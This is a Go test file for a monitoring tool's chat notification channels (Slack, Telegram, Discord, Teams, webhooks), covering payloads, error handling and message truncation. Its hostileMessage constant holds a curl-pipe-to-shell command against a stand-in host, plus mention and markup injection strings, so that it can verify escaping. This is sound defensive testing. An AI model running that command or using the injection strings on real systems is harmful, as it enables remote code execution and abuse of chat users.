package notify

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

// hookServer is an httptest server that records each request and answers
// with the next queued reply (the channel's ok reply when the queue is
// empty).
type hookServer struct {
	*httptest.Server
	mu      sync.Mutex
	reqs    []hookRequest
	replies []func(http.ResponseWriter)
	ok      func(http.ResponseWriter)
}

type hookRequest struct {
	Path   string
	Header http.Header
	Body   []byte
}

func newHookServer(t *testing.T, ok func(http.ResponseWriter)) *hookServer {
	s := &hookServer{ok: ok}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		s.reqs = append(s.reqs, hookRequest{Path: r.URL.Path, Header: r.Header.Clone(), Body: body})
		reply := s.ok
		if len(s.replies) > 0 {
			reply, s.replies = s.replies[0], s.replies[1:]
		}
		s.mu.Unlock()
		reply(w)
	}))
	t.Cleanup(s.Close)
	return s
}

// queue adds replies to give before the ok reply.
func (s *hookServer) queue(replies ...func(http.ResponseWriter)) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.replies = append(s.replies, replies...)
}

func (s *hookServer) last(t *testing.T) hookRequest {
	t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.reqs) == 0 {
		t.Fatal("the server received no request")
	}
	return s.reqs[len(s.reqs)-1]
}

func reply(status int, header map[string]string, body string) func(http.ResponseWriter) {
	return func(w http.ResponseWriter) {
		for k, v := range header {
			w.Header().Set(k, v)
		}
		w.WriteHeader(status)
		io.WriteString(w, body)
	}
}

// secrets maps the secret files of the test configs to their contents.
func readTestSecret(path string) ([]byte, error) {
	switch path {
	case "/etc/ptrule/slack-token":
		return []byte("xoxb-SECRET-token\n"), nil
	case "/etc/ptrule/tg-token":
		return []byte("123456:SECRET-token\n"), nil
	case "/etc/ptrule/hook-auth":
		return []byte("Bearer SECRET-bearer\n"), nil
	}
	return nil, fmt.Errorf("open %s: no such file or directory", path)
}

// chatCase is one channel type under test: how to build it against a
// server, what the server answers when all is well, and how to get the
// text a person would read out of a request.
type chatCase struct {
	name string
	ok   func(http.ResponseWriter)
	mk   func(t *testing.T, base string) Channel
	text func(t *testing.T, body []byte) string
	// okFalse is an answer with {"ok": false} and the kind of error it is,
	// for the channels whose API has one.
	okFalse func(http.ResponseWriter)
	// limit is the channel's length limit for text, by utf16Len; 0 for
	// none.
	limit int
}

func must[T any](t *testing.T) func(T, error) T {
	return func(v T, err error) T {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
}

func jsonField(t *testing.T, body []byte, field string) string {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(body, &m); err != nil {
		t.Fatalf("payload is not JSON: %v\n%s", err, body)
	}
	s, _ := m[field].(string)
	return s
}

var chatCases = []chatCase{
	{
		name: "slack-webhook",
		ok:   reply(200, nil, "ok"),
		mk: func(t *testing.T, base string) Channel {
			return must[*SlackChannel](t)(NewSlack(SlackConfig{WebhookURL: base + "/services/T0/B0/SECRET"}, readTestSecret))
		},
		text:    func(t *testing.T, b []byte) string { return jsonField(t, b, "text") },
		okFalse: reply(200, nil, `{"ok": false, "error": "channel_not_found"}`),
		limit:   slackLimit,
	},
	{
		name: "slack-bot",
		ok:   reply(200, map[string]string{"Content-Type": "application/json"}, `{"ok": true, "channel": "C0123", "ts": "1764619200.000100"}`),
		mk: func(t *testing.T, base string) Channel {
			return must[*SlackChannel](t)(NewSlack(SlackConfig{TokenFile: "/etc/ptrule/slack-token", Channel: "C0123", APIURL: base + "/api"}, readTestSecret))
		},
		text: func(t *testing.T, b []byte) string {
			v, err := url.ParseQuery(string(b))
			if err != nil {
				t.Fatal(err)
			}
			return v.Get("text")
		},
		okFalse: reply(200, map[string]string{"Content-Type": "application/json"}, `{"ok": false, "error": "not_in_channel"}`),
		limit:   slackLimit,
	},
	{
		name: "webhook",
		ok:   reply(204, nil, ""),
		mk: func(t *testing.T, base string) Channel {
			return must[*WebhookChannel](t)(NewWebhook(WebhookConfig{
				URL:          base + "/ptrule",
				Headers:      map[string]string{"X-Source": "ptrule-test"},
				HeadersFiles: map[string]string{"Authorization": "/etc/ptrule/hook-auth"},
			}, readTestSecret))
		},
		text: func(t *testing.T, b []byte) string {
			return jsonField(t, b, "subject") + "\n" + jsonField(t, b, "message")
		},
	},
	{
		name: "telegram",
		ok:   reply(200, nil, `{"ok": true, "result": {"message_id": 1}}`),
		mk: func(t *testing.T, base string) Channel {
			return must[*TelegramChannel](t)(NewTelegram(TelegramConfig{TokenFile: "/etc/ptrule/tg-token", ChatID: "-1001234567890", APIURL: base}, readTestSecret))
		},
		text:    func(t *testing.T, b []byte) string { return jsonField(t, b, "text") },
		okFalse: reply(200, nil, `{"ok": false, "error_code": 400, "description": "Bad Request: something odd"}`),
		limit:   telegramLimit,
	},
	{
		name: "discord",
		ok:   reply(204, nil, ""),
		mk: func(t *testing.T, base string) Channel {
			return must[*DiscordChannel](t)(NewDiscord(DiscordConfig{WebhookURL: base + "/api/webhooks/1/SECRET"}, readTestSecret))
		},
		text:  func(t *testing.T, b []byte) string { return jsonField(t, b, "content") },
		limit: discordLimit,
	},
	{
		name: "msteams",
		ok:   reply(202, nil, ""),
		mk: func(t *testing.T, base string) Channel {
			return must[*MSTeamsChannel](t)(NewMSTeams(MSTeamsConfig{WebhookURL: base + "/workflows/SECRET/triggers/manual/paths/invoke"}, readTestSecret))
		},
		text: func(t *testing.T, b []byte) string {
			var m msteamsMessage
			if err := json.Unmarshal(b, &m); err != nil {
				t.Fatal(err)
			}
			var texts []string
			for _, blk := range m.Attachments[0].Content.Body {
				if blk.Type != "RichTextBlock" {
					t.Errorf("card block of type %q, want only RichTextBlock (a TextBlock renders markdown)", blk.Type)
				}
				for _, r := range blk.Inlines {
					if r.Type != "TextRun" {
						t.Errorf("inline of type %q, want TextRun", r.Type)
					}
					texts = append(texts, r.Text)
				}
			}
			return strings.Join(texts, "\n")
		},
	},
}

var goldenAlert = Alert{
	Rule:     "pt-suspicious",
	Severity: "warning",
	Subject:  "Suspicious process 4242 (nc) of bob",
	Message:  "bob runs nc -l -p 4444 & talks to 203.0.113.9:4444\nexe: /usr/bin/nc.openbsd",
	Host:     "web1",
	Key:      "pid:4242",
	Time:     time.Date(2026, 12, 1, 21, 0, 0, 0, time.UTC),
	PID:      4242,
	User:     "bob",
	Labels:   map[string]string{"team": "ops"},
}

// goldenBody returns a request body in a stable, readable form: indented
// JSON, or a form's sorted fields with the token masked.
func goldenBody(t *testing.T, body []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	if json.Indent(&out, body, "", "  ") == nil {
		return append(bytes.TrimSpace(out.Bytes()), '\n')
	}
	v, err := url.ParseQuery(string(body))
	if err != nil {
		t.Fatalf("body is neither JSON nor a form: %s", body)
	}
	if v.Has("token") {
		v.Set("token", "<token>")
	}
	var lines []string
	for k, vs := range v {
		for _, x := range vs {
			lines = append(lines, fmt.Sprintf("%s=%q", k, x))
		}
	}
	slices.Sort(lines)
	return []byte(strings.Join(lines, "\n") + "\n")
}

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "chat", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./notify -run %s -update to create it)", err, t.Name())
	}
	if !bytes.Equal(got, want) {
		t.Errorf("payload differs from %s:\n--- got\n%s--- want\n%s", path, got, want)
	}
}

// TestChatPayloadGolden pins what each channel sends for a typical alert,
// in its normal and Plain forms, and where it sends it.
func TestChatPayloadGolden(t *testing.T) {
	wantPath := map[string]string{
		"slack-webhook": "/services/T0/B0/SECRET",
		"slack-bot":     "/api/chat.postMessage",
		"webhook":       "/ptrule",
		"telegram":      "/bot123456:SECRET-token/sendMessage",
		"discord":       "/api/webhooks/1/SECRET",
		"msteams":       "/workflows/SECRET/triggers/manual/paths/invoke",
	}
	for _, c := range chatCases {
		for _, plain := range []bool{false, true} {
			name := c.name
			if plain {
				name += "-plain"
			}
			t.Run(name, func(t *testing.T) {
				srv := newHookServer(t, c.ok)
				ch := c.mk(t, srv.URL)
				a := goldenAlert
				a.Plain = plain
				if err := ch.Send(context.Background(), a); err != nil {
					t.Fatalf("Send: %v", err)
				}
				req := srv.last(t)
				if req.Path != wantPath[c.name] {
					t.Errorf("posted to %s, want %s", req.Path, wantPath[c.name])
				}
				checkGolden(t, name+".golden", goldenBody(t, req.Body))
			})
		}
	}
}

// TestChatHeaders checks the webhook's extra headers (one from a secret
// file, trimmed) and the JSON content type every channel sends.
func TestChatHeaders(t *testing.T) {
	srv := newHookServer(t, reply(204, nil, ""))
	ch := chatCases[slices.IndexFunc(chatCases, func(c chatCase) bool { return c.name == "webhook" })].mk(t, srv.URL)
	if err := ch.Send(context.Background(), goldenAlert); err != nil {
		t.Fatal(err)
	}
	h := srv.last(t).Header
	for k, want := range map[string]string{"Authorization": "Bearer SECRET-bearer", "X-Source": "ptrule-test", "Content-Type": "application/json"} {
		if got := h.Get(k); got != want {
			t.Errorf("header %s = %q, want %q", k, got, want)
		}
	}
}

// TestChatFailures checks how each channel classifies a server's answers,
// one Send at a time as the delivery machinery calls it.
func TestChatFailures(t *testing.T) {
	type step struct {
		reply func(http.ResponseWriter) // nil: the ok reply
		want  string                    // ok, temporary, rejected, permanent
		after time.Duration
		inErr string
	}
	scenarios := []struct {
		name  string
		steps []step
	}{
		{"500 then success", []step{
			{reply: reply(500, nil, "<html>oops</html>"), want: "temporary", inErr: "500"},
			{want: "ok"},
		}},
		{"429 with Retry-After seconds", []step{
			{reply: reply(429, map[string]string{"Retry-After": "7"}, `{"ok": false, "error": "ratelimited", "retry_after": 7, "parameters": {"retry_after": 7}}`), want: "temporary", after: 7 * time.Second},
		}},
		{"503 with Retry-After seconds", []step{
			{reply: reply(503, map[string]string{"Retry-After": "30"}, ""), want: "temporary", after: 30 * time.Second},
		}},
		{"400 too long", []step{
			{reply: reply(400, nil, `{"ok": false, "error": "msg_too_long", "description": "Bad Request: message is too long", "message": "Invalid Form Body"}`), want: "rejected"},
		}},
		{"413", []step{
			{reply: reply(413, nil, "request entity too large"), want: "rejected"},
		}},
		{"401", []step{
			{reply: reply(401, nil, `{"ok": false, "error": "invalid_auth", "description": "Unauthorized"}`), want: "permanent"},
		}},
		{"404", []step{
			{reply: reply(404, nil, `{"ok": false, "description": "Not Found", "message": "Unknown Webhook"}`), want: "permanent"},
		}},
	}
	for _, c := range chatCases {
		for _, sc := range scenarios {
			// slack-go reads a 429's wait from Retry-After itself; the other
			// answers it turns into StatusCodeError without the body.
			t.Run(c.name+"/"+sc.name, func(t *testing.T) {
				srv := newHookServer(t, c.ok)
				ch := c.mk(t, srv.URL)
				for i, st := range sc.steps {
					if st.reply != nil {
						srv.queue(st.reply)
					}
					err := ch.Send(context.Background(), goldenAlert)
					checkClass(t, fmt.Sprintf("send %d", i+1), err, st.want, st.after, st.inErr)
				}
			})
		}
		if c.okFalse != nil {
			t.Run(c.name+"/ok:false", func(t *testing.T) {
				srv := newHookServer(t, c.ok)
				ch := c.mk(t, srv.URL)
				srv.queue(c.okFalse)
				err := ch.Send(context.Background(), goldenAlert)
				checkClass(t, "send", err, "permanent", 0, "ok:false")
			})
		}
	}
}

// checkClass fails unless err is of the class want ("ok" for nil), with
// RetryAfter after, and holds inErr.
func checkClass(t *testing.T, what string, err error, want string, after time.Duration, inErr string) {
	t.Helper()
	got := "ok"
	var se SendError
	if err != nil {
		se = Classify(err)
		var p *SendError
		if !errors.As(err, &p) {
			t.Errorf("%s: %v is not a SendError", what, err)
		}
		switch {
		case se.Rejected:
			got = "rejected"
		case se.Retry:
			got = "temporary"
		default:
			got = "permanent"
		}
	}
	if got != want {
		t.Fatalf("%s: got %s (%v), want %s", what, got, err, want)
	}
	if err != nil && se.RetryAfter != after {
		t.Errorf("%s: RetryAfter %s, want %s (%v)", what, se.RetryAfter, after, err)
	}
	if inErr != "" && !strings.Contains(err.Error(), inErr) {
		t.Errorf("%s: error %q does not say %q", what, err, inErr)
	}
	if err != nil && strings.Contains(err.Error(), "SECRET") {
		t.Errorf("%s: error %q shows a secret", what, err)
	}
}

// TestTelegramChatNotFound: Telegram answers 400 for an unknown chat too;
// that is the config's fault, not the message's.
func TestTelegramChatNotFound(t *testing.T) {
	c := chatCases[slices.IndexFunc(chatCases, func(c chatCase) bool { return c.name == "telegram" })]
	srv := newHookServer(t, c.ok)
	srv.queue(reply(400, nil, `{"ok": false, "error_code": 400, "description": "Bad Request: chat not found"}`))
	err := c.mk(t, srv.URL).Send(context.Background(), goldenAlert)
	checkClass(t, "send", err, "permanent", 0, "chat not found")
}

// TestDiscordRetryAfterBody: Discord gives the wait in its JSON body
// (seconds, with a fraction); without a Retry-After header it is used.
func TestDiscordRetryAfterBody(t *testing.T) {
	c := chatCases[slices.IndexFunc(chatCases, func(c chatCase) bool { return c.name == "discord" })]
	srv := newHookServer(t, c.ok)
	srv.queue(reply(429, nil, `{"message": "You are being rate limited.", "retry_after": 1.5, "global": false}`))
	err := c.mk(t, srv.URL).Send(context.Background(), goldenAlert)
	checkClass(t, "send", err, "temporary", 1500*time.Millisecond, "429")
}

// TestChatUnreachable: a server that is down, or that accepts and never
// answers, gives a Temporary error naming neither the URL's secret path
// nor the token.
func TestChatUnreachable(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	downURL := "http://" + ln.Addr().String()
	ln.Close()

	hang := make(chan struct{})
	silent := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-hang:
		}
	}))
	t.Cleanup(silent.Close)
	t.Cleanup(func() { close(hang) })

	for _, c := range chatCases {
		t.Run(c.name+"/down", func(t *testing.T) {
			err := c.mk(t, downURL).Send(context.Background(), goldenAlert)
			checkClass(t, "send", err, "temporary", 0, "")
		})
		t.Run(c.name+"/cancelled", func(t *testing.T) {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			err := c.mk(t, silent.URL).Send(ctx, goldenAlert)
			checkClass(t, "send", err, "temporary", 0, "")
		})
		t.Run(c.name+"/silent", func(t *testing.T) {
			ch := c.mk(t, silent.URL)
			setTimeout(t, ch, 50*time.Millisecond)
			err := ch.Send(context.Background(), goldenAlert)
			checkClass(t, "send", err, "temporary", 0, "")
		})
	}
}

// setTimeout shortens a channel's per-send timeout, as the timeout key
// would.
func setTimeout(t *testing.T, ch Channel, d time.Duration) {
	switch c := ch.(type) {
	case *SlackChannel:
		c.timeout = d
	case *WebhookChannel:
		c.timeout = d
	case *TelegramChannel:
		c.timeout = d
	case *DiscordChannel:
		c.timeout = d
	case *MSTeamsChannel:
		c.timeout = d
	default:
		t.Fatalf("no timeout for %T", ch)
	}
}

// hostileMessage is a command line written to do harm in a chat message.
const hostileMessage = "cmdline: sh -c 'curl http://evil/x | sh' --password=x\n" +
	"<!channel> <!here> <@U024BE7LH> @everyone @here @channel\n" +
	"<b>bold</b> <a href=\"http://evil\">click</a> &amp; &lt;\n" +
	"**bold** _it_ ~~s~~ `code` ||spoiler|| [click](http://evil) <@123> <#456> <@&789>\n" +
	"# heading\n> quote\n- item\n" +
	"esc\x1b[31m red\r\n\u202egnp.exe"

// unescapers turn a channel's text back into what it shows, failing on
// any markup a hostile text could have smuggled in.
var unescapers = map[string]func(t *testing.T, s string) string{
	"slack-webhook": unescapeSlack,
	"slack-bot":     unescapeSlack,
	"telegram":      unescapeTelegram,
	"discord":       unescapeDiscord,
	"webhook":       func(t *testing.T, s string) string { return s },
	"msteams":       func(t *testing.T, s string) string { return s },
}

// unescapeSlack fails on any < or > (Slack's link and mention syntax), or
// an & that starts no entity, and decodes the entities.
func unescapeSlack(t *testing.T, s string) string {
	t.Helper()
	if strings.ContainsAny(s, "<>") {
		t.Errorf("Slack text holds a raw < or >:\n%s", s)
	}
	checkEntities(t, s)
	return html.UnescapeString(s)
}

// checkEntities fails on an & that is not &amp;, &lt; or &gt;.
func checkEntities(t *testing.T, s string) {
	t.Helper()
	for i := 0; i < len(s); i++ {
		if s[i] == '&' && !strings.HasPrefix(s[i:], "&amp;") && !strings.HasPrefix(s[i:], "&lt;") && !strings.HasPrefix(s[i:], "&gt;") {
			t.Errorf("broken entity at %d: %q", i, s[i:min(i+8, len(s))])
		}
	}
}

// unescapeTelegram removes the only tags ptrule writes (b and i), fails on
// any other <, and decodes the entities.
func unescapeTelegram(t *testing.T, s string) string {
	t.Helper()
	s = strings.NewReplacer("<b>", "", "</b>", "", "<i>", "", "</i>", "").Replace(s)
	if strings.ContainsAny(s, "<>") {
		t.Errorf("Telegram text holds a tag ptrule did not write:\n%s", s)
	}
	checkEntities(t, s)
	return html.UnescapeString(s)
}

// unescapeDiscord decodes backslash escapes and fails on a markdown
// character that is not escaped, apart from ptrule's own ** and * around
// the first and last lines.
func unescapeDiscord(t *testing.T, s string) string {
	t.Helper()
	lines := strings.Split(s, "\n")
	if n := len(lines); n >= 2 {
		lines[0] = strings.TrimSuffix(strings.TrimPrefix(lines[0], "**"), "**")
		lines[n-1] = strings.TrimSuffix(strings.TrimPrefix(lines[n-1], "*"), "*")
	}
	s = strings.Join(lines, "\n")
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '\\' && i+1 < len(s) {
			b.WriteByte(s[i+1])
			i++
			continue
		}
		if strings.IndexByte(discordMarkdown, c) >= 0 {
			t.Errorf("unescaped markdown %q at %d: %q", c, i, s[max(i-10, 0):min(i+10, len(s))])
		}
		b.WriteByte(c)
	}
	return b.String()
}

// TestChatHostile sends a hostile command line through every channel, in
// both forms, and checks that it arrives as text: escaped for the format,
// mass mentions broken, nothing lost but the control characters.
func TestChatHostile(t *testing.T) {
	want := strings.Map(cleanRune, hostileMessage)
	for _, c := range chatCases {
		for _, plain := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/plain=%v", c.name, plain), func(t *testing.T) {
				srv := newHookServer(t, c.ok)
				a := goldenAlert
				a.Subject = "Suspicious <!channel> @everyone <b>x</b>"
				a.Message = hostileMessage
				a.Plain = plain
				if err := c.mk(t, srv.URL).Send(context.Background(), a); err != nil {
					t.Fatal(err)
				}
				body := srv.last(t).Body
				text := c.text(t, body)
				if strings.ContainsAny(text, "\x1b\r\u202e") {
					t.Errorf("a control character arrived: %q", text)
				}
				if c.name == "telegram" && plain && jsonField(t, body, "parse_mode") != "" {
					t.Errorf("a Plain Telegram message has a parse mode; its text is not escaped for one")
				}
				if c.name != "telegram" || !plain {
					text = unescapers[c.name](t, text)
				}
				if c.name != "webhook" && c.name != "msteams" && c.name != "telegram" {
					for _, m := range []string{"@everyone", "@here", "@channel"} {
						if strings.Contains(text, m) {
							t.Errorf("%s arrived unbroken", m)
						}
					}
					text = strings.ReplaceAll(text, "@\u200b", "@")
				}
				if !strings.Contains(text, want) {
					t.Errorf("the message did not arrive whole:\n got %q\nwant %q", text, want)
				}
				if !strings.Contains(text, "Suspicious <!channel> @everyone <b>x</b>") {
					t.Errorf("the subject did not arrive whole: %q", text)
				}
				if c.name == "discord" {
					var p discordPayload
					if err := json.Unmarshal(body, &p); err != nil {
						t.Fatal(err)
					}
					if p.AllowedMentions.Parse == nil || len(p.AllowedMentions.Parse) != 0 || !bytes.Contains(body, []byte(`"allowed_mentions":{"parse":[]}`)) {
						t.Errorf("allowed_mentions is not an empty parse list: %s", body)
					}
				}
			})
		}
	}
}

// TestChatTooLong sends a message far over every limit, built of
// characters that need escaping and of multi-byte ones, and checks it
// arrives shortened within the limit, marked, with title and footer kept
// and no escape or character cut.
func TestChatTooLong(t *testing.T) {
	long := strings.Repeat("a<&>é😀@everyone*", 5000)
	for _, c := range chatCases {
		for _, plain := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/plain=%v", c.name, plain), func(t *testing.T) {
				srv := newHookServer(t, c.ok)
				a := goldenAlert
				a.Message = long
				a.Plain = plain
				if err := c.mk(t, srv.URL).Send(context.Background(), a); err != nil {
					t.Fatal(err)
				}
				body := srv.last(t).Body
				raw := c.text(t, body)
				if !utf8.ValidString(raw) || strings.ContainsRune(raw, utf8.RuneError) {
					t.Errorf("text is not clean UTF-8")
				}
				limit := c.limit
				if plain && limit > 0 {
					limit = plainLimit(limit)
				}
				if limit > 0 && utf16Len(raw) > limit {
					t.Errorf("text is %d characters, over the limit %d", utf16Len(raw), limit)
				}
				if c.name == "msteams" {
					lim := msteamsLimit
					if plain {
						lim = plainLimit(msteamsLimit)
					}
					if n := jsonLen(raw); n > lim+2*len("\n") {
						t.Errorf("card text is %d JSON bytes, over %d", n, lim)
					}
				}
				if c.name == "webhook" && !plain {
					if jsonField(t, body, "message") != long {
						t.Errorf("the webhook shortened a message it had no reason to")
					}
					return
				}
				text := raw
				if c.name != "telegram" || !plain {
					text = unescapers[c.name](t, raw)
				}
				text = strings.ReplaceAll(text, "@\u200b", "@")
				if !strings.Contains(text, goldenAlert.Subject) || !strings.Contains(text, "host web1") && c.name != "webhook" {
					t.Errorf("title or footer lost: %q…%q", text[:min(80, len(text))], text[max(0, len(text)-80):])
				}
				i := strings.Index(text, "a<&>")
				j := strings.Index(text, ellipsis)
				if i < 0 || j < i {
					t.Fatalf("no shortened message marked with %s", ellipsis)
				}
				if kept := text[i:j]; !strings.HasPrefix(long, kept) {
					t.Errorf("the shortened message is not a prefix of the original: ends %q", kept[max(0, len(kept)-20):])
				} else if len(kept) < 100 {
					t.Errorf("only %d bytes of the message were kept", len(kept))
				}
			})
		}
	}
}

// TestParseRetryAfter covers both forms of Retry-After.
func TestParseRetryAfter(t *testing.T) {
	now := time.Date(2026, 12, 1, 21, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		in   string
		want time.Duration
		ok   bool
	}{
		{"7", 7 * time.Second, true},
		{" 0 ", 0, true},
		{"Tue, 01 Dec 2026 21:00:30 GMT", 30 * time.Second, true},
		{"Tue, 01 Dec 2026 20:59:00 GMT", 0, true},
		{"99999999999999999", 24 * time.Hour, true},
		{"-1", 0, false},
		{"soon", 0, false},
		{"", 0, false},
	} {
		got, ok := parseRetryAfter(c.in, now)
		if got != c.want || ok != c.ok {
			t.Errorf("parseRetryAfter(%q) = %s, %v; want %s, %v", c.in, got, ok, c.want, c.ok)
		}
	}
}
